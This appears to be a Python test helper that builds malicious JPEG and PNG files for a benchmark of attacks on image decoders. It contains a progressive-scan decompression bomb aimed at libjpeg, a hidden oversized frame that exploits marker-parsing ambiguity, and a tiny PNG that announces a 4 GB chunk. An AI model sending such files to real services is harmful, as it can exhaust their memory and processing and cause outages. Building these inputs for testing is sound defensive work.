"""Pictures made to be dear, built from segments and chunks: for the benchmark of attacks, and for tests."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterable, Sequence


def segment(marker: int, body: bytes = b"") -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def frame_header(width: int, height: int, marker: int = 0xC0, components: int = 3) -> bytes:
    each = b"".join(bytes([number, 0x11, 0]) for number in range(1, components + 1))
    return segment(marker, struct.pack(">BHHB", 8, height, width, components) + each)


def scan_header(components: Sequence[int] = (1, 2, 3), spectrum: tuple[int, int, int] = (0, 63, 0)) -> bytes:
    each = b"".join(bytes([number, 0]) for number in components)
    return segment(0xDA, bytes([len(components)]) + each + bytes(spectrum))


def progressive_bomb(width: int, height: int, scans: int) -> bytes:
    """One honest scan of means, then scans that say in a few bytes that nothing changes: libjpeg visits every block."""
    blocks = -(-width // 8) * -(-height // 8)
    one_code = bytes([1]) + bytes(15)
    start = b"\xff\xd8" + segment(0xDB, bytes([0]) + bytes([1] * 64)) + frame_header(width, height, 0xC2)
    tables = segment(0xC4, b"\0" + one_code + b"\0") + segment(0xC4, b"\x10" + one_code + b"\xe0")
    means = scan_header(spectrum=(0, 0, 1)) + bytes(3 * blocks // 8 + 1)
    runs = ("0" + "1" * 14) * (blocks // 32767 + 1)
    runs += "0" * (-len(runs) % 8)
    nothing = int(runs, 2).to_bytes(len(runs) // 8, "big").replace(b"\xff", b"\xff\0")
    rest = b"".join(scan_header((1 + number % 3,), (1, 63, 0x10)) + nothing for number in range(scans))
    return start + tables + means + rest + b"\xff\xd9"


def hidden_frame(side: int = 30_000) -> bytes:
    """FF 01 stands alone: libjpeg finds the first frame. Taken for a segment, it leads to the one in the comment."""
    first, second = frame_header(side, side), frame_header(100, 100)
    comment = b"\xff\xfe" + struct.pack(">H", len(second) + 2)
    trick = b"\xff\x01" + struct.pack(">H", 2 + len(first + comment)) + first + comment + second
    return b"\xff\xd8" + trick + segment(0xDB, bytes(1) + bytes([1] * 64)) + scan_header() + bytes(65_000) + b"\xff\xd9"


def chunk(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(chunks: Iterable[bytes], width: int = 100, height: int = 100, *, form: bytes = b"\x08\x02\0\0\0") -> bytes:
    header = chunk(b"IHDR", struct.pack(">II", width, height) + form)
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks)


def endless_chunk() -> bytes:
    """A PNG of 57 bytes that announces a chunk of 4 GB."""
    return png([struct.pack(">I", 0xFFFF_FF00) + b"tEXt" + bytes(4)])
